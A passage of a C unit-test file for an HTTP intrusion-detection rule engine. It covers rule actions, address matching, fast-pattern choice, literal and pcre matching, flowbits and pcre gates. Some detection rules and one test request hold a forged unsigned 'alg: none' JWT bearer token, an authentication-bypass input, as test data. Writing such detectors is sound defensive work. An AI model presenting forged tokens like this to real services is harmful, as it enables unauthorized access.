		CU_ASSERT(mt_match_request(e, s, &x.t, &r) >= 0);
		for (size_t k = 0; k < sizeof(opts) / sizeof(opts[0]); k++) {
			char rule[256];
			snprintf(rule, sizeof(rule), "alert http any any -> any any (http.uri.raw; %s sid:1;)", opts[k]);
			CU_ASSERT(tx_fires(rule, &x) >= 0);
			snprintf(rule, sizeof(rule), "alert http any any -> any any (http.uri; %s sid:1;)", opts[k]);
			CU_ASSERT(tx_fires(rule, &x) >= 0);
		}
	}
	mt_scratch_destroy(s);
	mt_engine_destroy(e);
	munmap(m, (size_t)pg * 2);
}

/* ---------- actions, addresses ---------- */

static void
test_actions(void)
{
	struct tx x;
	struct mt_result r;
	struct mt_engine *e;
	static const char *const h[] = {"Host: t", NULL};

	tx_req(&x, "GET", "/evil", h);
	e = tx_engine(NULL, "alert http any any -> any any (http.uri; content:\"evil\"; sid:1;)\n"
			    "drop http any any -> any any (http.uri; content:\"/e\"; sid:2;)\n");
	CU_ASSERT_FATAL(e != NULL);
	CU_ASSERT_EQUAL(tx_run(e, &x, &r), 2);
	CU_ASSERT_EQUAL(r.verdict, MT_ACT_DROP);
	CU_ASSERT(tx_has_sid(&r, 1) && tx_has_sid(&r, 2));
	mt_engine_destroy(e);

	e = tx_engine(NULL, "reject http any any -> any any (http.uri; content:\"evil\"; sid:1;)\n"
			    "drop http any any -> any any (http.uri; content:\"/e\"; sid:2;)\n");
	CU_ASSERT_FATAL(e != NULL);
	CU_ASSERT_EQUAL(tx_run(e, &x, &r), 2);
	CU_ASSERT_EQUAL(r.verdict, MT_ACT_REJECT);
	mt_engine_destroy(e);

	/* pass wins and suppresses the other hits */
	e = tx_engine(NULL, "drop http any any -> any any (http.uri; content:\"evil\"; sid:1;)\n"
			    "pass http any any -> any any (http.uri; content:\"/e\"; sid:2;)\n"
			    "alert http any any -> any any (http.uri; content:\"vil\"; sid:3;)\n");
	CU_ASSERT_FATAL(e != NULL);
	CU_ASSERT_EQUAL(tx_run(e, &x, &r), 1);
	CU_ASSERT_EQUAL(r.verdict, MT_ACT_PASS);
	CU_ASSERT_EQUAL(r.hits[0].rule->sid, 2);
	mt_engine_destroy(e);

	CU_ASSERT_STRING_EQUAL(mt_action_name(MT_ACT_ALERT), "alert");
	CU_ASSERT_STRING_EQUAL(mt_action_name(MT_ACT_DROP), "drop");
	CU_ASSERT_STRING_EQUAL(mt_action_name(MT_ACT_REJECT), "reject");
	CU_ASSERT_STRING_EQUAL(mt_action_name(MT_ACT_PASS), "pass");
	CU_ASSERT_STRING_EQUAL(mt_action_name(MT_ACT_NONE), "none");
}

static void
test_many_hits(void)
{
	char rules[8192];
	size_t o = 0;
	struct tx x;
	struct mt_result r;
	struct mt_engine *e;
	static const char *const h[] = {"Host: t", NULL};

	for (int i = 1; i <= 20; i++)
		o += (size_t)snprintf(rules + o, sizeof(rules) - o,
				      "%s http any any -> any any (http.uri; content:\"/x\"; sid:%d;)\n",
				      i == 20 ? "drop" : "alert", i);
	e = tx_engine(NULL, rules);
	CU_ASSERT_FATAL(e != NULL);
	tx_req(&x, "GET", "/x", h);
	CU_ASSERT_EQUAL(tx_run(e, &x, &r), MT_MAX_HITS);
	CU_ASSERT_EQUAL(r.hits_dropped, 20 - MT_MAX_HITS);
	CU_ASSERT_EQUAL(r.verdict, MT_ACT_DROP); /* the dropped hit still counts */
	CU_ASSERT_EQUAL(r.hits[0].rule->sid, 1);
	mt_engine_destroy(e);
}

static int
fires_vars(const char *hdr, const struct tx *x)
{
	static const struct mt_var vars[] = {
		{"HOME_NET", "[10.0.0.0/8,192.168.0.0/16]"},
		{"EXTERNAL_NET", "!$HOME_NET"},
		{"HTTP_PORTS", "[80,8000:8099]"},
	};
	struct mt_engine_params p = {.vars = vars, .n_vars = 3};
	char rule[512];
	struct mt_engine *e;
	struct mt_result r;
	int n;

	snprintf(rule, sizeof(rule), "alert http %s (http.uri; content:\"/\"; sid:1;)", hdr);
	e = tx_engine(&p, rule);
	if (e == NULL)
		return -1;
	n = tx_run(e, x, &r);
	mt_engine_destroy(e);
	return n;
}

static void
test_addresses(void)
{
	struct tx x;
	static const char *const h[] = {"Host: t", NULL};

	tx_req(&x, "GET", "/", h); /* 192.0.2.10:40000 -> 10.0.0.5:8080 */
	CU_ASSERT_EQUAL(fires_vars("$EXTERNAL_NET any -> $HOME_NET $HTTP_PORTS", &x), 1);
	CU_ASSERT_EQUAL(fires_vars("$HOME_NET any -> $EXTERNAL_NET any", &x), 0);
	CU_ASSERT_EQUAL(fires_vars("$HOME_NET any <> $EXTERNAL_NET any", &x), 1);
	CU_ASSERT_EQUAL(fires_vars("any any -> 10.0.0.5 8080", &x), 1);
	CU_ASSERT_EQUAL(fires_vars("any any -> 10.0.0.6 any", &x), 0);
	CU_ASSERT_EQUAL(fires_vars("192.0.2.0/24 any -> any any", &x), 1);
	CU_ASSERT_EQUAL(fires_vars("192.0.3.0/24 any -> any any", &x), 0);
	CU_ASSERT_EQUAL(fires_vars("[192.0.2.0/24,!192.0.2.10] any -> any any", &x), 0);
	CU_ASSERT_EQUAL(fires_vars("![192.0.3.0/24,198.51.100.1] any -> any any", &x), 1);
	CU_ASSERT_EQUAL(fires_vars("any 40000 -> any any", &x), 1);
	CU_ASSERT_EQUAL(fires_vars("any !40000 -> any any", &x), 0);
	CU_ASSERT_EQUAL(fires_vars("any 1024: -> any :8080", &x), 1);
	CU_ASSERT_EQUAL(fires_vars("any any -> any :8079", &x), 0);
	CU_ASSERT_EQUAL(fires_vars("any any -> any [80,443]", &x), 0);
	CU_ASSERT_EQUAL(fires_vars("any any -> any [80,8080]", &x), 1);
	CU_ASSERT_EQUAL(fires_vars("any any -> ::/0 any", &x), 0);
	/* IPv6 */
	x.tup.family = 6;
	inet_pton(AF_INET6, "2001:db8::1", x.tup.client_ip);
	inet_pton(AF_INET6, "2001:db8:1::5", x.tup.server_ip);
	CU_ASSERT_EQUAL(fires_vars("2001:db8::/64 any -> 2001:db8:1::/48 any", &x), 1);
	CU_ASSERT_EQUAL(fires_vars("2001:db8:1::/48 any -> any any", &x), 0);
	CU_ASSERT_EQUAL(fires_vars("$HOME_NET any -> any any", &x), 0);
}

static void
test_to_client_addresses(void)
{
	struct tx x;
	static const char *const h[] = {"Host: t", NULL};
	static const char *const rh[] = {"Server: x", NULL};

	tx_req(&x, "GET", "/", h);
	tx_resp(&x, 200, "OK", rh);
	/* a to_client rule's source is the server */
	CU_ASSERT_EQUAL(tx_fires("alert http 10.0.0.5 8080 -> 192.0.2.10 any (flow:to_client; "
				 "http.stat_code; content:\"200\"; sid:1;)", &x), 1);
	CU_ASSERT_EQUAL(tx_fires("alert http 192.0.2.10 any -> 10.0.0.5 any (flow:to_client; "
				 "http.stat_code; content:\"200\"; sid:1;)", &x), 0);
}

/* ---------- engine structure ---------- */

static void
test_fast_pattern_grouping(void)
{
	struct mt_engine *e = tx_engine(NULL,
		"alert http any any -> any any (http.uri; content:\"ab\"; content:\"longest\"; sid:1;)\n"
		"alert http any any -> any any (http.uri; content:\"abcdefgh\"; content:\"xy\"; fast_pattern; sid:2;)\n"
		"alert http any any -> any any (http.uri; pcre:\"/a+b/\"; sid:3;)\n"
		"alert http any any -> any any (http.uri; content:!\"zz\"; sid:4;)\n"
		"alert http any any -> any any (http.user_agent; content:\"ua\"; sid:5;)\n"
		"alert http any any -> any any (flow:to_client; http.header; content:\"hh\"; sid:6;)\n");
	const struct mt_rule *r;
	size_t uri_pats = 0;

	CU_ASSERT_FATAL(e != NULL);
	r = e->rules[0];
	CU_ASSERT_EQUAL(r->groups[r->fp_group].items[r->fp_item].len, 7);
	r = e->rules[1];
	CU_ASSERT_EQUAL(r->groups[r->fp_group].items[r->fp_item].len, 2);
	CU_ASSERT_EQUAL(e->rules[2]->fp_group, -1);
	/* the negated-only rule is evaluated every time, at the request side */
	CU_ASSERT_EQUAL(e->n_always[0], 1);
	CU_ASSERT_EQUAL(e->always[0][0], 3);
	CU_ASSERT_EQUAL(e->n_always[1], 0);
	CU_ASSERT_EQUAL(e->rules[5]->eval_side, 1);
	for (size_t i = 0; i < e->n_mpm; i++)
		if (e->mpm[i].side == 0 && e->mpm[i].buf == MT_BUFID(MT_B_URI, 0))
			uri_pats = e->mpm[i].n;
	/* rules 1-3 share one uri database (the pcre as a prefilter) */
	CU_ASSERT_EQUAL(uri_pats, 3);
	CU_ASSERT_EQUAL(e->n_mpm, 3);
	mt_engine_destroy(e);
}

/* the database of (side, buffer id), or NULL */
static const struct mt_mpm *
find_mpm(const struct mt_engine *e, uint8_t side, uint8_t buf)
{
	for (size_t i = 0; i < e->n_mpm; i++)
		if (e->mpm[i].side == side && e->mpm[i].buf == buf)
			return &e->mpm[i];
	return NULL;
}

/* The fast pattern is the longest content that ordinary traffic lacks
 * (mt_typical.c), else the longest; fast_pattern overrides both. */
static void
test_fast_pattern_rare(void)
{
	struct mt_engine *e = tx_engine(NULL,
		"alert http any any -> any any (http.header; content:\"Authorization: Bearer \"; "
		"content:\"eyJhbGciOiJub25lI\"; distance:0; sid:1;)\n"
		"alert http any any -> any any (http.header; content:\"Accept-Encoding: \"; "
		"content:\"Content-Type: \"; sid:2;)\n"
		"alert http any any -> any any (http.header; content:\"Authorization: Bearer \"; "
		"fast_pattern; content:\"eyJhbGciOiJub25lI\"; sid:3;)\n");
	const struct mt_rule *r;

	CU_ASSERT_FATAL(e != NULL);
	r = e->rules[0];
	CU_ASSERT_EQUAL(r->groups[r->fp_group].items[r->fp_item].len, 17);
	/* both ordinary: the longest */
	r = e->rules[1];
	CU_ASSERT_EQUAL(r->groups[r->fp_group].items[r->fp_item].len, 17);
	r = e->rules[2];
	CU_ASSERT_EQUAL(r->fp_item, 0);
	mt_engine_destroy(e);
}

/* Equal literals of several rules are one Hyperscan pattern whose match
 * reaches every rule (and a gate literal equal to another rule's fast
 * pattern too). */
static void
test_equal_literals(void)
{
	struct mt_engine *e = tx_engine(NULL,
		"alert http any any -> any any (http.uri; content:\"shared\"; sid:1;)\n"
		"alert http any any -> any any (http.uri; content:\"Shared\"; nocase; sid:2;)\n"
		"alert http any any -> any any (http.uri; content:\"shared\"; sid:3;)\n"
		"alert http any any -> any any (http.uri; content:\"/api/\"; pcre:\"/shared\\d/\"; sid:4;)\n"
		"alert http any any -> any any (http.uri; content:\"shared\"; nocase; sid:5;)\n"
		"alert http any any -> any any (http.uri; content:\"zzqx\"; pcre:\"/shared\\d/\"; sid:6;)\n");
	const struct mt_mpm *m;
	struct mt_result res;
	struct tx x;

	CU_ASSERT_FATAL(e != NULL);
	m = find_mpm(e, 0, MT_BUFID(MT_B_URI, 0));
	CU_ASSERT_FATAL(m != NULL);
	/* seven targets: "shared" x3 (rules 1, 3 and the gate of rule 4),
	 * "Shared"/i, "shared"/i, "/api/", "zzqx"; five patterns. Rule 6's
	 * fast pattern is absent from ordinary URIs, so its pcre adds no gate;
	 * rule 4's ("/api/") is everywhere, so it keeps one. */
	CU_ASSERT_EQUAL(m->n, 7);
	CU_ASSERT_EQUAL(m->n_ids, 5);
	CU_ASSERT_EQUAL(m->first[0], 0);
	CU_ASSERT_EQUAL(m->first[m->n_ids], m->n);
	CU_ASSERT_EQUAL(e->need[3], 3);
	CU_ASSERT_EQUAL(e->need[5], 1);
	tx_req(&x, "GET", "/api/shared7/zzqx", NULL);
	CU_ASSERT_EQUAL(tx_run(e, &x, &res), 6);
	tx_req(&x, "GET", "/api/SHARED/zzqx", NULL);
	CU_ASSERT_EQUAL(tx_run(e, &x, &res), 2);
	CU_ASSERT(tx_has_sid(&res, 2) && tx_has_sid(&res, 5));
	mt_engine_destroy(e);
}

/* A small literal database is matched by comparing its literals in place
 * on short buffers (and by Hyperscan on long ones): both must select
 * exactly the rules whose contents are there, positions included. Random
 * hosts over a four-letter alphabet, so that literals overlap and repeat. */
static bool
has_lit(const char *h, size_t hl, const char *l, bool ci, size_t from, size_t to)
{
	size_t n = strlen(l);

	for (size_t i = from; i + n <= hl && i + n <= to; i++)
		if (ci ? strncasecmp(h + i, l, n) == 0 : strncmp(h + i, l, n) == 0)
			return true;
	return false;
}

static void
test_direct_small_db(void)
{
	static const struct {
		const char *lit;
		bool ci;
		unsigned depth; /* 0: anywhere */
	} lits[] = {
		{"ab", false, 0}, {"aba", false, 0}, {"Ab", true, 0}, {"bb", false, 4},
		{"cab", true, 0}, {"dd", false, 0}, {"dca", false, 0}, {"abcd", true, 0},
		{"a", false, 2}, {"bcb", false, 0},
	};
	char rules[4096];
	size_t o = 0;
	struct mt_engine *e;
	const struct mt_mpm *m = NULL;
	unsigned seed = 12345, wrong = 0;

	for (size_t i = 0; i < sizeof(lits) / sizeof(lits[0]); i++) {
		o += (size_t)snprintf(rules + o, sizeof(rules) - o,
				      "alert http any any -> any any (http.host.raw; content:\"%s\";%s",
				      lits[i].lit, lits[i].ci ? " nocase;" : "");
		if (lits[i].depth)
			o += (size_t)snprintf(rules + o, sizeof(rules) - o, " depth:%u;", lits[i].depth);
		o += (size_t)snprintf(rules + o, sizeof(rules) - o, " sid:%zu;)\n", i + 1);
	}
	e = tx_engine(NULL, rules);
	CU_ASSERT_FATAL(e != NULL);
	m = find_mpm(e, 0, MT_BUFID(MT_B_HOST_RAW, 0));
	CU_ASSERT_FATAL(m != NULL);
	CU_ASSERT_PTR_NOT_NULL(m->lit);
	for (int t = 0; t < 3000; t++) {
		/* lengths up to 40: those over MT_MPM_DIRECT_LEN go to Hyperscan */
		char host[64];
		size_t hl = 1 + (seed = seed * 1103515245u + 12345u) % 40;
		const char *hs[] = {"Host: x", NULL};
		struct mt_result res;
		struct tx x;

		for (size_t i = 0; i < hl; i++)
			host[i] = "abcdABCD"[(seed = seed * 1103515245u + 12345u) >> 16 & 7];
		host[hl] = '\0';
		tx_req(&x, "GET", "/", hs);
		x.t.req.headers[0].value = (struct mt_slice){(const uint8_t *)host, (uint32_t)hl};
		x.t.req.known[MT_HDR_HOST] = 0;
		tx_run(e, &x, &res);
		for (size_t i = 0; i < sizeof(lits) / sizeof(lits[0]); i++) {
			bool want = has_lit(host, hl, lits[i].lit, lits[i].ci, 0,
					    lits[i].depth ? lits[i].depth : hl);

			if (want != tx_has_sid(&res, (uint32_t)(i + 1)) && wrong++ < 5)
				printf("\n  host \"%s\": sid %zu %s\n", host, i + 1,
				       want ? "missed" : "false hit");
		}
	}
	CU_ASSERT_EQUAL(wrong, 0);
	mt_engine_destroy(e);
}

/* http.header_names literals that are a whole name (CRLF NAME CRLF) or a
 * name's start (CRLF PREFIX) are looked up name by name, the others
 * scanned: together they must select exactly the rules whose contents the
 * buffer holds. Random names from overlapping pieces, some repeated, and
 * (for a message no parser checked) some holding CR LF, which sends the
 * lookup to a plain search. */
static size_t
count_lit(const char *h, size_t hl, const char *l, size_t n, bool ci)
{
	size_t c = 0;

	for (size_t i = 0; i + n <= hl; i++)
		c += ci ? strncasecmp(h + i, l, n) == 0 : strncmp(h + i, l, n) == 0;
	return c;
}

static void
test_header_names_lookup(void)
{
	static const struct {
		const char *lit;       /* as bytes */
		const char *rule_lit;  /* as written in the rule */
		bool ci;
		unsigned depth;
	} lits[] = {
		{"\r\nHost\r\n", "|0d 0a|Host|0d 0a|", true, 0},
		{"\r\nX-Ab\r\n", "|0d 0a|X-Ab|0d 0a|", false, 0},
		{"\r\nX-A", "|0d 0a|X-A", true, 0},
		{"_", "_", false, 0},
		{"b\r\nX", "b|0d 0a|X", false, 0},
		{"\r\nHost\r\n", "|0d 0a|Host|0d 0a|", true, 8},
		{"\r\nZb", "|0d 0a|Zb", false, 0},
	};
	static const char *pieces[] = {"Host", "host", "X-Ab", "x-ab", "X-A", "X-Abc", "a_b",
				       "Zb", "zb", "Ab", "b", "Hos", "a\r\nHost", "X\r\nZb"};
	const size_t nl = sizeof(lits) / sizeof(lits[0]);
	char rules[4096];
	size_t o = 0;
	struct mt_engine *e;
	const struct mt_mpm *m;
	unsigned seed = 777, wrong = 0;

	for (size_t i = 0; i < nl; i++) {
		o += (size_t)snprintf(rules + o, sizeof(rules) - o,
				      "alert http any any -> any any (http.header_names; content:\"%s\";%s",
				      lits[i].rule_lit, lits[i].ci ? " nocase;" : "");
		if (lits[i].depth)
			o += (size_t)snprintf(rules + o, sizeof(rules) - o, " depth:%u;", lits[i].depth);
		o += (size_t)snprintf(rules + o, sizeof(rules) - o, " sid:%zu;)\n", i + 1);
	}
	/* a duplicate name: two contents, the second at most sharing the CRLF */
	snprintf(rules + o, sizeof(rules) - o,
		 "alert http any any -> any any (http.header_names; content:\"|0d 0a|host|0d 0a|\"; "
		 "nocase; content:\"|0d 0a|host|0d 0a|\"; nocase; distance:-2; sid:%zu;)\n", nl + 1);
	e = tx_engine(NULL, rules);
	CU_ASSERT_FATAL(e != NULL);
	m = find_mpm(e, 0, MT_BUFID(MT_B_HEADER_NAMES, 0));
	CU_ASSERT_FATAL(m != NULL);
	/* Host/i, X-Ab, host/i exact; X-A/i, Zb prefixes; "_" and "b CRLF X"
	 * scanned */
	CU_ASSERT_EQUAL(m->n_exact, 3);
	CU_ASSERT_EQUAL(m->n_names, 5);
	CU_ASSERT_PTR_NOT_NULL(m->db);
	for (int t = 0; t < 4000; t++) {
		const char *hs[9];
		char hb[8][32], buf[512];
		size_t nh = (seed = seed * 1103515245u + 12345u) >> 16 & 7, bl = 0;
		bool plain = ((seed = seed * 1103515245u + 12345u) >> 16 & 3) != 0, crlf = false;
		struct mt_result res;
		struct tx x;

		for (size_t i = 0; i < nh; i++) {
			snprintf(hb[i], sizeof(hb[i]), "N%zu: v", i);
			hs[i] = hb[i];
		}
		hs[nh] = NULL;
		tx_req(&x, "GET", "/", hs);
		x.t.req.names_plain = plain;
		memcpy(buf, "\r\n", 2);
		bl = 2;
		for (size_t i = 0; i < nh; i++) {
			/* the last two pieces hold CR LF: only unchecked names */
			size_t np = sizeof(pieces) / sizeof(pieces[0]) - (plain ? 2 : 0);
			const char *pc = pieces[((seed = seed * 1103515245u + 12345u) >> 16) % np];

			crlf = crlf || strchr(pc, '\r') != NULL;
			x.t.req.headers[i].name = (struct mt_slice){(const uint8_t *)pc, (uint32_t)strlen(pc)};
			memcpy(buf + bl, pc, strlen(pc));
			bl += strlen(pc);
			memcpy(buf + bl, "\r\n", 2);
			bl += 2;
		}
		memcpy(buf + bl, "\r\n", 2);
		bl += 2;
		tx_run(e, &x, &res);
		for (size_t i = 0; i <= nl; i++) {
			bool want;

			if (i < nl) {
				size_t n = strlen(lits[i].lit);

				want = count_lit(buf, lits[i].depth && lits[i].depth < bl ? lits[i].depth : bl,
						 lits[i].lit, n, lits[i].ci) > 0;
			} else {
				want = count_lit(buf, bl, "\r\nhost\r\n", 8, true) >= 2;
			}
			if (want != tx_has_sid(&res, (uint32_t)(i + 1)) && wrong++ < 5) {
				printf("\n  names \"");
				for (size_t k = 0; k < bl; k++)
					printf(buf[k] == '\r' ? "\\r" : buf[k] == '\n' ? "\\n" : "%c", buf[k]);
				printf("\" (%s%s): sid %zu %s\n", plain ? "plain" : "unchecked",
				       crlf ? ", CR LF" : "", i + 1, want ? "missed" : "false hit");
			}
		}
	}
	CU_ASSERT_EQUAL(wrong, 0);
	mt_engine_destroy(e);
}

/* A pcre whose matches each lie on one line is confirmed on the lines that
 * hold its factor only (mt_confirm.c: pcre_found_lines): the verdicts must
 * equal Hyperscan's over the whole buffer. Random header blocks from
 * pieces that make the factors repeat, split across lines and sit at the
 * buffer's start, and values with LF inside (a parser would not pass
 * those, a buffer may still hold them). */
static void
test_pcre_lines(void)
{
	static const struct {
		const char *re;
		unsigned hs_flags;
		bool neg;
	} res_[] = {
		{"(?:^|\\r\\n)X-A: [^\\r\\n]*\\bzz\\b", HS_FLAG_CASELESS, false},
		{"X-B:[^\\n]*q{2}", 0, false},
		{"^X-A: z", 0, false},
		{"(?:^|\\r\\n)X-A: z", HS_FLAG_MULTILINE, false},
		{"X-A: [^\\r\\n]*zz", 0, true},
		{"(?:\\r\\n|^)(?:X-A|X-B): (?:zz|qq)\\b", 0, false},
		{"\\r\\nY: \\w+q", HS_FLAG_CASELESS, false},
	};
	static const char *names[] = {"X-A", "x-a", "X-B", "Y", "X-AB", "Z"};
	static const char *vals[] = {"zz", "z", "q", "qq", " zz ", "azz", "z\nX-A: zz", "qq\nq",
				     "", "zz,qq", "a\r\nX-B:qq"};
	char rules[4096];
	size_t o = 0, nr = sizeof(res_) / sizeof(res_[0]);
	struct mt_engine *e;
	hs_database_t *db[8];
	hs_scratch_t *scr = NULL;
	unsigned seed = 4242, wrong = 0, windowed = 0;

	for (size_t i = 0; i < nr; i++) {
		hs_compile_error_t *ce = NULL;
		char esc[256], *q = esc;

		for (const char *c = res_[i].re; *c; c++) {
			if (*c == '"' || *c == ';')
				q += sprintf(q, "\\%c", *c);
			else
				*q++ = *c;
		}
		*q = '\0';
		o += (size_t)snprintf(rules + o, sizeof(rules) - o,
				      "alert http any any -> any any (flow:to_server; http.header.raw; pcre:%s\"/%s/%s%s\"; sid:%zu;)\n",
				      res_[i].neg ? "!" : "", esc,
				      (res_[i].hs_flags & HS_FLAG_CASELESS) ? "i" : "",
				      (res_[i].hs_flags & HS_FLAG_MULTILINE) ? "m" : "", i + 1);
		CU_ASSERT_FATAL(hs_compile(res_[i].re, res_[i].hs_flags, HS_MODE_BLOCK, NULL, &db[i], &ce) ==
				HS_SUCCESS);
		CU_ASSERT_FATAL(hs_alloc_scratch(db[i], &scr) == HS_SUCCESS);
	}
	e = tx_engine(NULL, rules);
	CU_ASSERT_FATAL(e != NULL);
	for (size_t r = 0; r < e->n_rules; r++)
		windowed += e->rules[r]->groups[0].items[0].win_n > 0;
	/* all but the last, whose only factor ("\r\ny: ") holds an LF */
	CU_ASSERT_EQUAL(windowed, nr - 1);
	for (int t = 0; t < 4000; t++) {
		char hb[8][64], buf[1024];
		const char *hs[9];
		size_t nh = (seed = seed * 1103515245u + 12345u) >> 16 & 7, bl = 0;
		struct mt_result res;
		struct tx x;

		for (size_t i = 0; i < nh; i++) {
			const char *n = names[((seed = seed * 1103515245u + 12345u) >> 16) %
					      (sizeof(names) / sizeof(names[0]))];
			const char *v = vals[((seed = seed * 1103515245u + 12345u) >> 16) %
					     (sizeof(vals) / sizeof(vals[0]))];

			snprintf(hb[i], sizeof(hb[i]), "%s: %s", n, v);
			hs[i] = hb[i];
		}
		hs[nh] = NULL;
		tx_req(&x, "GET", "/", hs);
		/* the buffer as http.header.raw writes it: name, ": ", value */
		for (size_t i = 0; i < nh; i++) {
			const struct mt_header *h = &x.t.req.headers[i];

			bl += (size_t)sprintf(buf + bl, "%.*s: %.*s\r\n", (int)h->name.len,
					      (const char *)h->name.p, (int)h->value.len,
					      (const char *)h->value.p);
		}
		bl += (size_t)sprintf(buf + bl, "\r\n");
		tx_run(e, &x, &res);
		for (size_t i = 0; i < nr; i++) {
			int found = 0;
			bool want;

			hs_scan(db[i], buf, (unsigned)bl, 0, scr, mt_hs_found_cb, &found);
			want = res_[i].neg ? !found : found != 0;
			if (want != tx_has_sid(&res, (uint32_t)(i + 1)) && wrong++ < 5) {
				printf("\n  headers \"");
				for (size_t k = 0; k < bl; k++)
					printf(buf[k] == '\r' ? "\\r" : buf[k] == '\n' ? "\\n" : "%c", buf[k]);
				printf("\": sid %zu %s\n", i + 1, want ? "missed" : "false hit");
			}
		}
	}
	CU_ASSERT_EQUAL(wrong, 0);
	for (size_t i = 0; i < nr; i++)
		hs_free_database(db[i]);
	hs_free_scratch(scr);
	mt_engine_destroy(e);
}

/* flowbits: a rule checks bits of its flow that rules set on earlier
 * messages, or on this one (setters are confirmed first); noalert rules
 * only set them. */
static int
fb_run(const struct mt_engine *e, struct mt_scratch *s, uint64_t *bits, const char *uri,
       uint32_t *sids)
{
	struct mt_result res;
	struct tx x;
	int n;

	tx_req(&x, "GET", uri, NULL);
	x.t.flowbits = bits;
	n = mt_match_request(e, s, &x.t, &res);
	*sids = 0;
	for (uint32_t i = 0; i < res.n_hits; i++)
		*sids |= 1u << res.hits[i].rule->sid;
	return n;
}

static void
test_flowbits(void)
{
	struct mt_engine *e = tx_engine(NULL,
		"alert http any any -> any any (flow:to_server; http.uri; content:\"/admin\"; "
		"flowbits:isset,seen.login; sid:2;)\n"
		"alert http any any -> any any (flow:to_server; http.uri; content:\"/admin\"; "
		"flowbits:isnotset,seen.login; sid:3;)\n"
		"alert http any any -> any any (flow:to_server; http.uri; content:\"/login\"; "
		"flowbits:set,seen.login; flowbits:noalert; sid:1;)\n"
		"alert http any any -> any any (flow:to_server; http.uri; content:\"/logout\"; "
		"flowbits:unset,seen.login; sid:4;)\n"
		"alert http any any -> any any (flow:to_server; http.uri; content:\"/x\"; "
		"flowbits:isset,other|seen.login; sid:5;)\n"
		"alert http any any -> any any (flow:to_server; http.uri; content:\"/t\"; "
		"flowbits:toggle,other; sid:6;)\n");
	struct mt_scratch *s;
	uint64_t bits = 0;
	uint32_t sids;

	CU_ASSERT_FATAL(e != NULL);
	CU_ASSERT(e->has_fb_sets);
	s = mt_scratch_create(e);
	CU_ASSERT_FATAL(s != NULL);
	CU_ASSERT_EQUAL(fb_run(e, s, &bits, "/admin", &sids), 1);
	CU_ASSERT_EQUAL(sids, 1u << 3);
	CU_ASSERT_EQUAL(fb_run(e, s, &bits, "/login", &sids), 0); /* noalert */
	CU_ASSERT_NOT_EQUAL(bits, 0);
	CU_ASSERT_EQUAL(fb_run(e, s, &bits, "/admin", &sids), 1);
	CU_ASSERT_EQUAL(sids, 1u << 2);
	CU_ASSERT_EQUAL(fb_run(e, s, &bits, "/x", &sids), 1);
	CU_ASSERT_EQUAL(fb_run(e, s, &bits, "/logout", &sids), 1);
	CU_ASSERT_EQUAL(bits, 0);
	CU_ASSERT_EQUAL(fb_run(e, s, &bits, "/x", &sids), 0);
	/* set and checked by one message: the setter (a later rule) first */
	CU_ASSERT_EQUAL(fb_run(e, s, &bits, "/login/admin", &sids), 1);
	CU_ASSERT_EQUAL(sids, 1u << 2);
	/* toggle twice: other set, then clear; "other|seen.login" is any of */
	bits = 0;
	CU_ASSERT_EQUAL(fb_run(e, s, &bits, "/t", &sids), 1);
	CU_ASSERT_EQUAL(fb_run(e, s, &bits, "/x", &sids), 1);
	CU_ASSERT_EQUAL(fb_run(e, s, &bits, "/t", &sids), 1);
	CU_ASSERT_EQUAL(fb_run(e, s, &bits, "/x", &sids), 0);
	/* no flow state: nothing is set, setters change nothing */
	CU_ASSERT_EQUAL(fb_run(e, s, NULL, "/login/admin", &sids), 1);
	CU_ASSERT_EQUAL(sids, 1u << 3);
	mt_scratch_destroy(s);
	mt_engine_destroy(e);
}

/* Gates: the literals a rule's pcres require join its fast pattern in the
 * databases; the rule is a candidate only when all of them matched. */
static int
gate_run(const struct mt_engine *e, const char *uri, const char *auth, uint32_t *n_cand,
	 struct mt_result *res)
{
	const char *h[] = {"Host: t", auth, NULL};
	struct mt_scratch *s = mt_scratch_create(e);
	struct tx x;
	int n;

	if (s == NULL)
		return -1;
	tx_req(&x, "GET", uri, auth != NULL ? h : h + 2);
	n = mt_match_request(e, s, &x.t, res);
	*n_cand = s->n_cand;
	mt_scratch_destroy(s);
	return n;
}

static bool
gate_hit(const struct mt_result *r, uint32_t sid)
{
	for (uint32_t i = 0; i < r->n_hits; i++)
		if (r->hits[i].rule->sid == sid)
			return true;
	return false;
}

static void
test_gates(void)
{
	struct mt_engine *e = tx_engine(NULL,
		/* a common literal and a rare pcre: "Bearer" is in every
		 * ordinary request head, so only the tokens gate the rule */
		"alert http any any -> any any (http.header; content:\"Authorization|3a| \"; nocase; "
		"pcre:\"/Bearer\\s+(?:eyJhbGciOiJub25l|eyJ0eXAiOiJKV1QiLCJhbGciOiJub25l)/\"; sid:1;)\n"
		/* no content: the pcre's literals alone select the rule */
		"alert http any any -> any any (http.uri; pcre:\"/[?&](?:xlimit|xsize)=\\d{5,}/\"; sid:2;)\n"
		/* a negated pcre is no gate */
		"alert http any any -> any any (http.uri; content:\"/api\"; pcre:!\"/secret_token/\"; sid:3;)\n"
		/* a relative pcre is one */
		"alert http any any -> any any (http.uri; content:\"/api\"; "
		"pcre:\"/^\\/v[0-9]+\\/admin_debug/R\"; sid:4;)\n"
		/* "?limit=" is in ordinary URIs: no gate; the pcre itself
		 * prefilters the rule */
		"alert http any any -> any any (http.uri; pcre:\"/[?&](?:limit|size)=\\d{5,}/\"; sid:5;)\n");
	struct mt_result r;
	uint32_t nc = 0;

	CU_ASSERT_FATAL(e != NULL);
	CU_ASSERT_EQUAL(e->need[0], 0x3);   /* fast pattern + the tokens */
	CU_ASSERT_EQUAL(e->need[1], 0x2);   /* one gate, no fast pattern */
	CU_ASSERT_EQUAL(e->need[2], 0x1);
	CU_ASSERT_EQUAL(e->need[3], 0x3);
	CU_ASSERT_EQUAL(e->need[4], 0x1);   /* the pcre, in the database */
	CU_ASSERT_EQUAL(e->n_always[0], 0);
	/* the fast patterns of rules 1, 3 and 4 match, but only rule 3 has no
	 * gate missing: it is the only candidate confirmed */
	CU_ASSERT_EQUAL(gate_run(e, "/api/v1/x?xlimit=10&limit=10", "Authorization: Basic eHl6",
				 &nc, &r), 1);
	CU_ASSERT_EQUAL(nc, 2); /* rule 3, and rule 2 whose "?xlimit=" matched */
	CU_ASSERT(gate_hit(&r, 3));
	/* every rule fires when its pcre does */
	CU_ASSERT_EQUAL(gate_run(e, "/api/v2/admin_debug?xsize=123456&size=123456",
				 "Authorization: Bearer eyJhbGciOiJub25lIn0.e30.", &nc, &r), 5);
	CU_ASSERT_EQUAL(nc, 5);
	/* the negated pcre still vetoes */
	CU_ASSERT_EQUAL(gate_run(e, "/api?secret_token=1", NULL, &nc, &r), 0);
	CU_ASSERT_EQUAL(nc, 1);
